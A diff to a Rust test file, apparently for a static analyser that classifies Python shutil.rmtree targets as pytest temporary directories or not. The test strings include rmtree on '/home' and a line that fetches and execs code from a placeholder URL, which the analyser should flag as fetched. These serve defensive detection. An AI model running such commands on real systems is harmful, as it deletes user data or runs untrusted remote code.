@@ -154,6 +154,17 @@ fn a_temporary_directory_and_what_is_fetched_are_told_from_what_is_unknown() {
         Some(UnknownReason::Temporary { variable: false }),
         "{made:?}"
     );
+    for (code, temporary) in [
+        ("def test_x(tmp_path):\n    shutil.rmtree(tmp_path)", true),
+        ("@pytest.fixture\ndef made(tmpdir):\n    shutil.rmtree(tmpdir)", true),
+        ("def made(tmp_path):\n    shutil.rmtree(tmp_path)", false),
+        ("def test_x(tmp_path):\n    shutil.rmtree(tmp_path)\ntest_x('/home')", false),
+    ] {
+        let calls = read(&format!("import shutil\n{code}"));
+        let given = calls.iter().find(|call| call.callee == "shutil.rmtree").and_then(|call| why(&call.args[0]));
+        let is = matches!(given, Some((UnknownReason::Temporary { .. }, _)));
+        assert_eq!(is, temporary, "{code} {calls:?}");
+    }
     let fetched = read("from urllib.request import urlopen\nexec(urlopen('http://x').read())");
     assert_eq!(why(&fetched[1].args[0]).map(|(_, taint)| taint), Some(Taint::FETCHED), "{fetched:?}");
 }
